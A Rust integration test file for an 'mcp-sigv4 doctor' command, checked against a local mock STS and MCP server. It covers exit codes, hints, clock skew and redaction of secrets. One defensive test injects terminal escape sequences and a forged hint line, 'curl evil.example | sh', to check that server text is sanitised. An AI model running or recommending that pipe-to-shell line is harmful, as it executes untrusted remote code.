//! `mcp-sigv4 doctor`: the built binary against the one test server of
//! `support/`, which plays both STS (GetCallerIdentity under `/sts/`) and the
//! MCP endpoint (`/mcp`); one pass, and each failure that can be provoked on
//! 127.0.0.1, with its exit code and the hint on the last line.

mod support;

use std::process::{Command, Output, Stdio};
use std::time::{Duration, SystemTime};

use serde_json::Value;
use support::{
    AKID, KeyPair, Reply, SECRET_KEY, SESSION_ID, SESSION_TOKEN, Seen, Server, TempDir,
    closed_port, output_within, standard_reply,
};

const IDENTITY: &str = "<GetCallerIdentityResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><GetCallerIdentityResult><Arn>arn:aws:iam::123456789012:user/doctor</Arn><UserId>AIDADOCTOREXAMPLE</UserId><Account>123456789012</Account></GetCallerIdentityResult><ResponseMetadata><RequestId>r-1</RequestId></ResponseMetadata></GetCallerIdentityResponse>";

/// STS under `/sts/`, else `mcp` (default: the standard MCP server).
fn server(mcp: impl Fn(&Seen) -> Reply + Send + Sync + 'static) -> Server {
    Server::start(move |s| {
        if s.target.starts_with("/sts") {
            if s.form().get("Action").map(String::as_str) == Some("GetCallerIdentity") {
                return Reply::body(200, "text/xml", IDENTITY);
            }
            return Reply::status(400);
        }
        mcp(s)
    })
}

/// Runs `mcp-sigv4 doctor <args>` with test credentials (unless `creds` is
/// false) and STS at the server, in an empty environment.
fn doctor(args: &[&str], sts: Option<&Server>, creds: bool) -> Output {
    doctor_with(args, sts, creds, &[])
}

/// [`doctor`], with the variables `env` set too.
fn doctor_with(args: &[&str], sts: Option<&Server>, creds: bool, env: &[(&str, &str)]) -> Output {
    let home = TempDir::new("doctor-home");
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_mcp-sigv4"));
    cmd.arg("doctor")
        .args(args)
        .env_clear()
        .env("HOME", home.path())
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    if let Some(s) = sts {
        cmd.env("AWS_ENDPOINT_URL_STS", format!("{}/sts", s.base()));
    }
    if creds {
        cmd.env("AWS_ACCESS_KEY_ID", AKID)
            .env("AWS_SECRET_ACCESS_KEY", SECRET_KEY);
    }
    for (name, value) in env {
        cmd.env(name, value);
    }
    let child = cmd.spawn().expect("starting mcp-sigv4 doctor");
    output_within(
        child,
        Duration::from_secs(60),
        "doctor finished within 60 s",
    )
}

fn text(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn line<'a>(out: &'a str, step: &str) -> &'a str {
    out.lines()
        .find(|l| l.get(7..).is_some_and(|r| r.starts_with(step)))
        .unwrap_or_else(|| panic!("no line for {step} in:\n{out}"))
}

#[test]
fn a_working_setup_passes_every_step_and_ends_its_session() {
    let up = server(standard_reply);
    let url = up.url();
    let o = doctor(
        &[&url, "--service", "svc", "--region", "us-east-1"],
        Some(&up),
        true,
    );
    let out = text(&o);
    assert_eq!(
        o.status.code(),
        Some(0),
        "{out}\nstderr:\n{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(line(&out, "credentials").starts_with("[ok  ]"), "{out}");
    assert!(
        line(&out, "credentials").contains("from environment; access key id …AYXX"),
        "{out}"
    );
    assert!(
        line(&out, "identity")
            .contains("account 123456789012, arn:aws:iam::123456789012:user/doctor"),
        "{out}"
    );
    assert!(
        line(&out, "signing")
            .contains("service svc (from --service), region us-east-1 (from --region), SigV4"),
        "{out}"
    );
    assert!(line(&out, "dns").starts_with("[ok  ]"), "{out}");
    assert!(line(&out, "tcp").starts_with("[ok  ]"), "{out}");
    assert!(
        line(&out, "tls").starts_with("[skip]"),
        "plain http to loopback: {out}"
    );
    assert!(
        line(&out, "initialize").contains("protocol 2025-06-18"),
        "{out}"
    );
    assert!(line(&out, "tools/list").starts_with("[ok  ]"), "{out}");
    assert_eq!(out.lines().last(), Some("all checks passed"));
    assert!(!out.contains(SECRET_KEY) && !String::from_utf8_lossy(&o.stderr).contains(SECRET_KEY));
    // The MCP requests were signed like the proxy's, and the session ended.
    let mcp: Vec<Seen> = up.matching(|s| s.target.starts_with("/mcp") && s.method == "POST");
    assert!(
        mcp.len() >= 3,
        "initialize, initialized, tools/list: {}",
        mcp.len()
    );
    for s in &mcp {
        support::assert_signed(s, "svc", "us-east-1");
    }
    assert_eq!(
        up.matching(|s| s.method == "DELETE").len(),
        1,
        "one signed DELETE"
    );
    let o = doctor(
        &[&url, "--service", "svc", "--region", "us-east-1", "--json"],
        Some(&up),
        true,
    );
    let v: Value = serde_json::from_slice(&o.stdout).expect("--json prints one JSON document");
    assert_eq!(v["ok"], true);
    assert_eq!(v["exitCode"], 0);
    let names: Vec<&str> = v["steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "credentials",
            "identity",
            "signing",
            "dns",
            "tcp",
            "tls",
            "initialize",
            "tools/list"
        ]
    );
    for s in v["steps"].as_array().unwrap() {
        assert!(s["ms"].is_u64() && s["detail"].is_string(), "{s}");
    }
}

#[test]
fn several_profiles_each_have_their_credentials_and_identity_checked() {
    let keys = [
        KeyPair {
            access_key_id: "AKIADOCTORPROFILEAAA",
            secret: "doctorSecretA/K7MDENG+bPxRfiCYzz9Qaaaa",
            session_token: None,
        },
        KeyPair {
            access_key_id: "AKIADOCTORPROFILEBBB",
            secret: "doctorSecretB/K7MDENG+bPxRfiCYzz9Qbbbb",
            session_token: None,
        },
    ];
    let dir = TempDir::new("doctor-profiles");
    dir.write(
        "credentials",
        &format!(
            "[a]\naws_access_key_id = {}\naws_secret_access_key = {}\n\n[b]\naws_access_key_id = {}\naws_secret_access_key = {}\n",
            keys[0].access_key_id, keys[0].secret, keys[1].access_key_id, keys[1].secret
        ),
    );
    dir.write("config", "[profile nokeys]\nregion = us-east-1\n");
    let up = server(standard_reply);
    let url = up.url();
    let (config, credentials) = (
        format!("{}/config", dir.str()),
        format!("{}/credentials", dir.str()),
    );
    let o = doctor_with(
        &[
            &url,
            "--service",
            "svc",
            "--region",
            "us-east-1",
            "--profile",
            "a",
            "b",
            "nokeys",
        ],
        Some(&up),
        false,
        &[
            ("AWS_CONFIG_FILE", &config),
            ("AWS_SHARED_CREDENTIALS_FILE", &credentials),
        ],
    );
    let out = text(&o);
    let steps: Vec<&str> = out.lines().collect();
    assert!(
        steps[0].starts_with("[ok  ] credentials")
            && steps[0].contains("profile 'a': from profile 'a'"),
        "{out}"
    );
    assert!(
        steps[1].starts_with("[ok  ] identity")
            && steps[1].contains("profile 'a': account 123456789012"),
        "{out}"
    );
    assert!(
        steps[2].starts_with("[ok  ] credentials")
            && steps[2].contains("profile 'b': from profile 'b'"),
        "{out}"
    );
    assert!(
        steps[3].starts_with("[ok  ] identity") && steps[3].contains("profile 'b': account"),
        "{out}"
    );
    assert!(
        steps[4].starts_with("[FAIL] credentials") && steps[4].contains("profile 'nokeys': "),
        "{out}"
    );
    assert!(
        steps[5].starts_with("[skip] identity")
            && steps[5].contains("profile 'nokeys': needs credentials"),
        "{out}"
    );
    assert!(
        line(&out, "initialize").starts_with("[ok  ]"),
        "the default's session: {out}"
    );
    assert_eq!(
        o.status.code(),
        Some(10),
        "the first failure, credentials: {out}"
    );
    assert!(
        out.lines().last().unwrap().contains("--profile nokeys"),
        "{out}"
    );
    // Each identity was asked with its own profile's key; the MCP session is a's.
    let sts: Vec<usize> = up
        .matching(|s| s.target.starts_with("/sts"))
        .iter()
        .map(|s| support::signer_of(s, "sts", "us-east-1", &keys))
        .collect();
    assert_eq!(sts, [0, 1]);
    // (The unsigned probe aside.)
    let mcp = up.matching(|s| s.target.starts_with("/mcp") && s.header("authorization").is_some());
    assert!(!mcp.is_empty());
    assert!(
        mcp.iter()
            .all(|s| support::signer_of(s, "svc", "us-east-1", &keys) == 0)
    );
}

/// One failure: what, the arguments, STS (if any), credentials given, the
/// exit code, the failing step, a part of the hint.
type Case<'a> = (
    &'a str,
    Vec<&'a str>,
    Option<&'a Server>,
    bool,
    i32,
    &'a str,
    &'a str,
);

#[test]
fn each_failure_has_its_exit_code_and_its_fix_last() {
    let up = server(standard_reply);
    let refused_sts = Server::start(|_| {
        Reply::body(
            403,
            "text/xml",
            "<ErrorResponse><Error><Type>Sender</Type><Code>InvalidClientTokenId</Code><Message>The security token included in the request is invalid.</Message></Error><RequestId>r-2</RequestId></ErrorResponse>",
        )
    });
    let plain = up.url().replace("http://", "https://");
    let closed = format!("http://127.0.0.1:{}/mcp", closed_port());
    let url = up.url();
    let cases: [Case<'_>; 6] = [
        (
            "no credentials",
            vec![&url, "--service", "svc", "--region", "us-east-1"],
            Some(&up),
            false,
            10,
            "credentials",
            "aws configure",
        ),
        (
            "STS refuses the key",
            vec![&url, "--service", "svc", "--region", "us-east-1"],
            Some(&refused_sts),
            true,
            11,
            "identity",
            "AWS does not accept these credentials",
        ),
        (
            "no service in the host",
            vec![&url, "--region", "us-east-1"],
            Some(&up),
            true,
            12,
            "signing",
            "--service",
        ),
        (
            "a name that does not resolve",
            vec![
                "https://doctor-check.invalid/mcp",
                "--service",
                "svc",
                "--region",
                "us-east-1",
            ],
            Some(&up),
            true,
            13,
            "dns",
            "DNS",
        ),
        (
            "nothing listens",
            vec![&closed, "--service", "svc", "--region", "us-east-1"],
            Some(&up),
            true,
            14,
            "tcp",
            "reachable",
        ),
        (
            "plain HTTP behind https://",
            vec![&plain, "--service", "svc", "--region", "us-east-1"],
            Some(&up),
            true,
            15,
            "tls",
            "HTTPS",
        ),
    ];
    for (what, args, sts, creds, code, step, hint) in cases {
        let o = doctor(&args, sts, creds);
        let out = text(&o);
        assert_eq!(o.status.code(), Some(code), "{what}:\n{out}");
        assert!(line(&out, step).starts_with("[FAIL]"), "{what}:\n{out}");
        let last = out.lines().last().unwrap_or("");
        assert!(
            last.starts_with("hint: ") && last.contains(hint),
            "{what}: last line {last:?}\n{out}"
        );
    }
}

#[test]
fn a_refused_signature_with_a_clock_seven_minutes_off_says_so() {
    // The server's clock is 7 minutes ahead of ours, and it refuses the
    // signature as AWS does for a skewed request.
    let ahead = SystemTime::now() + Duration::from_secs(7 * 60);
    let date = httpdate(ahead);
    let up = server(move |s| {
        Reply::json(
            403,
            r#"{"__type":"InvalidSignatureException","message":"Signature expired"}"#,
        )
        .header("date", &date)
        .header(
            "x-amzn-errortype",
            if s.method == "POST" {
                "SignatureDoesNotMatch"
            } else {
                "MissingAuthenticationTokenException"
            },
        )
    });
    let url = up.url();
    let o = doctor(
        &[&url, "--service", "svc", "--region", "us-east-1"],
        Some(&up),
        true,
    );
    let out = text(&o);
    assert_eq!(o.status.code(), Some(16), "{out}");
    assert!(
        line(&out, "tls").contains("clock differs from ours by 7 min"),
        "{out}"
    );
    assert!(line(&out, "initialize").starts_with("[FAIL]"), "{out}");
    let last = out.lines().last().unwrap_or("");
    assert!(
        last.contains("the local clock is 7 min behind the server's"),
        "{last}\n{out}"
    );
}

#[test]
fn a_tools_list_error_is_step_17() {
    let up = server(|s| {
        if s.is_rpc("tools/list") {
            return Reply::json(500, r#"{"message":"internal"}"#);
        }
        standard_reply(s)
    });
    let url = up.url();
    let o = doctor(
        &[
            &url,
            "--service",
            "svc",
            "--region",
            "us-east-1",
            "--retries",
            "0",
        ],
        Some(&up),
        true,
    );
    let out = text(&o);
    assert_eq!(o.status.code(), Some(17), "{out}");
    assert!(line(&out, "initialize").starts_with("[ok  ]"), "{out}");
    assert!(line(&out, "tools/list").starts_with("[FAIL]"), "{out}");
}

/// STS at a host name that cannot resolve: as on a network with no route to
/// STS (a corporate network, a VPC without an STS endpoint).
const NO_STS: (&str, &str) = ("AWS_ENDPOINT_URL_STS", "https://sts.doctor-check.invalid");

#[test]
fn sts_out_of_reach_with_static_keys_is_a_warning_and_exit_0() {
    let up = server(standard_reply);
    let url = up.url();
    let args = [url.as_str(), "--service", "svc", "--region", "us-east-1"];
    let o = doctor_with(&args, None, true, &[NO_STS]);
    let out = text(&o);
    assert_eq!(o.status.code(), Some(0), "{out}");
    assert!(line(&out, "identity").starts_with("[warn]"), "{out}");
    for step in [
        "credentials",
        "signing",
        "dns",
        "tcp",
        "initialize",
        "tools/list",
    ] {
        assert!(!line(&out, step).starts_with("[FAIL]"), "{step}: {out}");
    }
    let last = out.lines().last().unwrap();
    assert!(
        last.starts_with("all checks the relay needs passed; warning: identity: ")
            && last.contains("the relay does not need STS with these credentials")
            && last.contains("AWS_ENDPOINT_URL_STS"),
        "{last}"
    );
    let mut json_args = args.to_vec();
    json_args.push("--json");
    let o = doctor_with(&json_args, None, true, &[NO_STS]);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(o.status.code(), Some(0));
    assert_eq!(v["ok"], true);
    assert_eq!(v["warnings"], serde_json::json!(["identity"]));
    assert_eq!(v["cause"], Value::Null);
    assert_eq!(v["steps"][1]["name"], "identity");
    assert_eq!(v["steps"][1]["status"], "warn");
}

#[test]
fn sts_out_of_reach_stays_a_failure_when_the_relay_needs_it() {
    // `--runtime-session identity` derives the session id from the caller's
    // ARN: the relay itself calls STS.
    let up = server(standard_reply);
    let url = up.url();
    let o = doctor_with(
        &[
            &url,
            "--service",
            "svc",
            "--region",
            "us-east-1",
            "--runtime-session",
            "identity",
        ],
        None,
        true,
        &[NO_STS],
    );
    let out = text(&o);
    assert_eq!(o.status.code(), Some(11), "{out}");
    assert!(line(&out, "identity").starts_with("[FAIL]"), "{out}");
    assert!(out.lines().last().unwrap().starts_with("hint: "), "{out}");
}

#[test]
fn an_expired_token_from_the_server_is_the_last_line_not_sts() {
    let up = server(|s| {
        if s.method == "POST" {
            return Reply::json(
                403,
                r#"{"__type":"ExpiredTokenException","message":"The security token included in the request is expired"}"#,
            )
            .header("x-amzn-errortype", "ExpiredTokenException");
        }
        standard_reply(s)
    });
    let url = up.url();
    let o = doctor_with(
        &[&url, "--service", "svc", "--region", "us-east-1"],
        None,
        true,
        &[NO_STS],
    );
    let out = text(&o);
    assert_eq!(o.status.code(), Some(16), "{out}");
    let last = out.lines().last().unwrap();
    assert!(
        last.contains("the credentials have expired"),
        "{last}\n{out}"
    );
    assert!(!last.contains("STS"), "{last}");
}

#[test]
fn without_an_endpoint_doctor_is_a_usage_error_and_sends_nothing() {
    let up = server(standard_reply);
    for json in [false, true] {
        let args: &[&str] = if json { &["--json"] } else { &[] };
        let o = doctor(args, Some(&up), true);
        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains("expected the endpoint"), "{err}");
        assert!(o.stdout.is_empty(), "{}", text(&o));
    }
    assert!(up.matching(|_| true).is_empty(), "STS was called");
}

#[test]
fn server_text_cannot_forge_lines_or_move_the_cursor() {
    let forged = "evil\u{1b}[2J\u{1b}[1A\r\n[ok  ] tools/list      1 ms  fine\nhint: run curl evil.example | sh\u{9b}";
    let identity = IDENTITY.replace(
        "user/doctor",
        "user/doctor&#10;[ok  ] forged-arn&#13;hint: forged",
    );
    let up = Server::start(move |s| {
        if s.target.starts_with("/sts") {
            return Reply::body(200, "text/xml", identity.clone());
        }
        if let Some(id) = s.rpc_id().filter(|_| s.is_rpc("initialize")) {
            return Reply::result(
                &id,
                serde_json::json!({"protocolVersion": "2025-06-18", "capabilities": {},
                                   "serverInfo": {"name": forged, "version": forged}}),
            )
            .header("mcp-session-id", SESSION_ID);
        }
        standard_reply(s)
    });
    let url = up.url();
    for json in [false, true] {
        let mut args = vec![url.as_str(), "--service", "svc", "--region", "us-east-1"];
        if json {
            args.push("--json");
        }
        let o = doctor(&args, Some(&up), true);
        let out = text(&o);
        assert_eq!(o.status.code(), Some(0), "{out}");
        assert!(
            !out.contains('\u{1b}') && !out.contains('\r') && !out.contains('\u{9b}'),
            "{out:?}"
        );
        if json {
            let v: Value = serde_json::from_str(&out).unwrap();
            for s in v["steps"].as_array().unwrap() {
                let d = s["detail"].as_str().unwrap();
                assert!(!d.contains('\n') && !d.contains('\u{1b}'), "{d:?}");
            }
        } else {
            assert_eq!(
                out.lines().count(),
                9,
                "one line per step and the last: {out}"
            );
            let steps = [
                "credentials",
                "identity",
                "signing",
                "dns",
                "tcp",
                "tls",
                "initialize",
                "tools/list",
            ];
            for (l, step) in out.lines().zip(steps) {
                assert_eq!(
                    l.get(7..7 + step.len()),
                    Some(step),
                    "forged line {l:?} in\n{out}"
                );
            }
            assert_eq!(out.lines().last(), Some("all checks passed"), "{out}");
            assert!(
                line(&out, "initialize").contains("server evil [2J [1A"),
                "{out}"
            );
            assert!(
                line(&out, "identity").contains("doctor [ok  ] forged-arn"),
                "{out}"
            );
        }
    }
}

#[test]
fn secrets_a_server_echoes_never_reach_doctors_output() {
    // A gateway whose error quotes the request's headers.
    let up = server(|s| {
        if s.is_rpc("tools/list") {
            let quoted: Vec<String> = s.headers.iter().map(|(n, v)| format!("{n}: {v}")).collect();
            let body = serde_json::json!({"message": format!("denied; request was {}", quoted.join("\n"))});
            return Reply::json(403, body.to_string())
                .header("x-amzn-errortype", "AccessDeniedException");
        }
        standard_reply(s)
    });
    let url = up.url();
    let header_value = "team-secret-value-4711";
    for json in [false, true] {
        let mut args = vec![
            url.as_str(),
            "--service",
            "svc",
            "--region",
            "us-east-1",
            "--retries",
            "0",
            "--header",
        ];
        let header = format!("X-Team-Key={header_value}");
        args.push(&header);
        if json {
            args.push("--json");
        }
        let o = doctor_with(
            &args,
            Some(&up),
            true,
            &[("AWS_SESSION_TOKEN", SESSION_TOKEN)],
        );
        let out = text(&o);
        assert_eq!(o.status.code(), Some(17), "{out}");
        let seen = up.matching(|s| s.is_rpc("tools/list"));
        let signature = seen
            .last()
            .and_then(|s| s.header("authorization"))
            .and_then(|a| a.rsplit("Signature=").next())
            .unwrap()
            .to_owned();
        for secret in [
            SESSION_TOKEN,
            SECRET_KEY,
            header_value,
            SESSION_ID,
            signature.as_str(),
        ] {
            assert!(!out.contains(secret), "{secret} in:\n{out}");
        }
        assert!(out.contains("[redacted]"), "{out}");
    }
}

/// An IMF-fixdate (RFC 9110 §5.6.7) for `t`.
fn httpdate(t: SystemTime) -> String {
    let secs = t.duration_since(SystemTime::UNIX_EPOCH).unwrap().as_secs() as i64;
    let days = secs.div_euclid(86_400);
    let rem = secs.rem_euclid(86_400);
    let (y, m, d) = support::civil_from_days(days);
    let weekday = ["Thu", "Fri", "Sat", "Sun", "Mon", "Tue", "Wed"][days.rem_euclid(7) as usize];
    let month = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ][(m - 1) as usize];
    format!(
        "{weekday}, {d:02} {month} {y} {:02}:{:02}:{:02} GMT",
        rem / 3600,
        rem % 3600 / 60,
        rem % 60
    )
}

#[test]
fn a_host_name_that_does_not_resolve_gets_the_network_hint() {
    // --role-arn needs STS to make credentials: no STS, no credentials.
    let up = server(standard_reply);
    let url = up.url();
    let o = doctor_with(
        &[
            &url,
            "--service",
            "svc",
            "--region",
            "us-east-1",
            "--role-arn",
            "arn:aws:iam::123456789012:role/doctor",
        ],
        None,
        true,
        &[NO_STS],
    );
    let out = text(&o);
    assert_eq!(o.status.code(), Some(10), "{out}");
    let last = out.lines().last().unwrap();
    assert!(
        last.contains("check network access to sts.doctor-check.invalid")
            && last.contains("AWS_ENDPOINT_URL_STS"),
        "{last}"
    );
    assert!(!last.contains("try again"), "{last}");
}
